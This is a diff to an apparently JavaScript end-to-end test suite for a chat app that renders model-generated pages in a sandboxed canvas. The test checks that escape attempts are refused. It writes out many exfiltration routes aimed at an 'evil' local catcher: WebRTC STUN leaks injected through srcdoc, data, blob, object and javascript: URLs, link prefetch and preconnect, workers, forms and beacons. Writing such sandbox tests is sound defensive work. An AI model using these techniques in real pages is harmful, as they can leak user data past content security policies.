@@ -18,6 +18,7 @@ class Catcher {
       response.end('caught');
     }).listen(0, '127.0.0.1');
     await new Promise((resolve) => { this.http.on('listening', resolve); });
+    this.http.on('connection', () => this.hits.push('connection'));
     this.stun = createSocket('udp4', () => this.hits.push('stun'));
     await new Promise((resolve) => { this.stun.bind(this.http.address().port, '127.0.0.1', resolve); });
     this.port = this.http.address().port;
@@ -67,9 +68,40 @@ const stun = 'new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:${por
   await attempt('top', () => { top.location.href = evil + 'top'; return 'gone'; });
   await attempt('popup', () => window.open(evil + 'popup'));
   await attempt('rtc', () => { const c = eval(stun); c.createDataChannel('a'); return c.createOffer().then((o) => c.setLocalDescription(o)).then(() => 'sent'); });
-  await attempt('rtc inside', () => inner('<script>try { const c = ' + stun + '; c.createDataChannel("a"); c.createOffer().then((o) => c.setLocalDescription(o)).then(() => parent.postMessage("sent", "*")); } catch { parent.postMessage(null, "*"); }<' + '/script>'));
+  const spy = '<script>let got = null; try { const c = ' + stun + '; c.createDataChannel("a"); c.createOffer().then((o) => c.setLocalDescription(o)); got = "sent"; } catch {} parent.postMessage(got, "*");<' + '/script>';
+  const quoted = spy.replaceAll('"', '&quot;');
+  const heard = (put) => new Promise((resolve) => {
+    addEventListener('message', (e) => resolve(e.data));
+    setTimeout(() => resolve(null), 700);
+    put();
+  });
+  const blank = () => document.body.appendChild(document.createElement('iframe'));
+  const ways = {
+    property: () => { const f = document.createElement('iframe'); f.srcdoc = spy; document.body.append(f); },
+    attribute: () => { const f = document.createElement('iframe'); f.setAttribute('srcdoc', spy); document.body.append(f); },
+    capitals: () => { const f = document.createElement('iframe'); f.setAttribute('SrcDoc', spy); document.body.append(f); },
+    node: () => { const n = document.createAttribute('srcdoc'); n.value = spy; const f = document.createElement('iframe'); f.setAttributeNode(n); document.body.append(f); },
+    late: () => { const n = document.createAttribute('srcdoc'); const f = document.createElement('iframe'); f.setAttributeNode(n); document.body.append(f); n.value = spy; },
+    html: () => { document.body.insertAdjacentHTML('beforeend', '<iframe srcdoc="' + quoted + '"></iframe>'); },
+    inner: () => { const d = document.createElement('div'); d.innerHTML = '<iframe SRCDOC="' + quoted + '"></iframe>'; document.body.append(d); },
+    shadow: () => { const d = document.createElement('div'); d.attachShadow({ mode: 'closed' }).innerHTML = '<iframe srcdoc="' + quoted + '"></iframe>'; document.body.append(d); },
+    write: () => { document.write('<iframe src'); document.write('doc="' + quoted + '"></iframe>'); },
+    parser: () => { document.body.append(document.adoptNode(new DOMParser().parseFromString('<iframe srcdoc="' + quoted + '"></iframe>', 'text/html').querySelector('iframe'))); },
+    xml: () => { document.body.append(document.adoptNode(new DOMParser().parseFromString('<iframe xmlns="http://www.w3.org/1999/xhtml" srcdoc="' + quoted.replaceAll('<', '&lt;').replaceAll('=>', '=&gt;') + '"/>', 'application/xml').documentElement)); },
+    fragment: () => { document.body.append(document.createRange().createContextualFragment('<iframe srcdoc="' + quoted + '"></iframe>')); },
+    unsafe: () => { const d = document.createElement('div'); d.setHTMLUnsafe('<iframe srcdoc="' + quoted + '"></iframe>'); document.body.append(d); },
+    script: () => { const f = blank(); f.src = 'javascript:parent.postMessage(typeof RTCPeerConnection, "*")'; },
+    data: () => { const f = blank(); f.src = 'data:text/html,' + encodeURIComponent(spy); },
+    blob: () => { const f = blank(); f.src = URL.createObjectURL(new Blob([spy], { type: 'text/html' })); },
+    object: () => { const o = document.createElement('object'); o.data = 'data:text/html,' + encodeURIComponent(spy); document.body.append(o); },
+    realm: () => { const c = eval(stun.replace('new ', 'new (document.body.appendChild(document.createElement("iframe")).contentWindow).')); c.createDataChannel('a'); postMessage('sent', '*'); },
+  };
+  for (const [name, put] of Object.entries(ways)) await attempt('rtc by ' + name, () => heard(put));
   await attempt('worker', () => new Promise((y, n) => { const w = new Worker(URL.createObjectURL(new Blob(['fetch("' + evil + 'worker", { mode: "no-cors" }).then(() => postMessage("sent"), () => postMessage(null))']))); w.onmessage = (e) => y(e.data); w.onerror = n; }));
   const form = document.createElement('form'); form.action = evil + 'form'; document.body.append(form);
+  for (const rel of ['preconnect', 'dns-prefetch', 'prefetch', 'preload', 'modulepreload', 'prerender', 'icon', 'manifest']) {
+    await attempt('link ' + rel, () => { const l = document.createElement('link'); l.rel = rel; l.as = 'script'; l.href = evil + rel; document.head.append(l); return null; });
+  }
   await attempt('form', () => { form.submit(); return null; });
   await attempt('beacon', () => { navigator.sendBeacon(evil + 'beacon', 'x'); return null; });
   say('done', 'yes');
@@ -104,13 +136,11 @@ after(async () => {
 });
 
 const WIDE = { viewport: { width: 1500, height: 900 } };
-// Longer answers than the server's default.
-const LONG = '{"maxTokens":20000}';
+// Longer answers than the server's default, and nothing asked in between.
+const LONG = '{"maxTokens":40000,"autoRepair":false}';
 const inside = (tab) => tab.frameLocator('.canvas-frame');
 // A page that is refused says so in the console: that is what is wanted here.
-const calm = (visitor) => {
-  visitor.problems = visitor.problems.filter((p) => !/Content Security Policy|sandboxed|Unsafe attempt|Blocked|policy:|violates|net::ERR|Failed to|request to 127/.test(p));
-};
+const REFUSED = { ...WIDE, expects: /Content Security Policy|sandboxed|Unsafe attempt|Blocked|policy:|violates|net::ERR|Failed to|request to 127/ };
 
 test('a page opens beside the chat and works', async () => {
   const visitor = await Visitor.open(server.url, WIDE);
@@ -151,7 +181,7 @@ test('a page that fails is given back to the model once, by itself', async () =>
 });
 
 test('nothing that a page tries gets out of the canvas', async () => {
-  const visitor = await Visitor.open(server.url, WIDE);
+  const visitor = await Visitor.open(server.url, REFUSED);
   const { page: tab } = visitor;
   await tab.evaluate((text) => localStorage.setItem('ponder.settings', text), LONG);
   await tab.reload();
@@ -160,18 +190,17 @@ test('nothing that a page tries gets out of the canvas', async () => {
   const out = inside(tab).locator('#out');
   await out.filter({ hasText: 'done: yes' }).waitFor();
   const lines = (await out.innerText()).trim().split('\n');
-  assert.ok(lines.length >= 20, lines.join('\n'));
+  assert.ok(lines.length >= 36, lines.join('\n'));
   assert.deepEqual(lines.filter((line) => !/: (refused|yes)$/.test(line)), []);
   assert.deepEqual(catcher.hits, []);
   assert.match(tab.url(), new RegExp(address.replace(/[^\w]/g, '.')));
   assert.equal(visitor.context.pages().length, 1);
-  calm(visitor);
   await visitor.close();
 });
 
 test('a page cannot lead its frame elsewhere', async () => {
   for (const how of ['meta', 'itself']) {
-    const visitor = await Visitor.open(server.url, WIDE);
+    const visitor = await Visitor.open(server.url, REFUSED);
     const { page: tab } = visitor;
     const refused = new Promise((resolve) => {
       tab.on('console', (message) => { if (/frame-src|default-src/.test(message.text())) resolve(); });
@@ -179,8 +208,7 @@ test('a page cannot lead its frame elsewhere', async () => {
     await ask(tab, `leave by ${how}`, 'Instant');
     await refused;
     assert.deepEqual(catcher.hits, [], how);
-    calm(visitor);
-    await visitor.close();
+      await visitor.close();
   }
 });
 
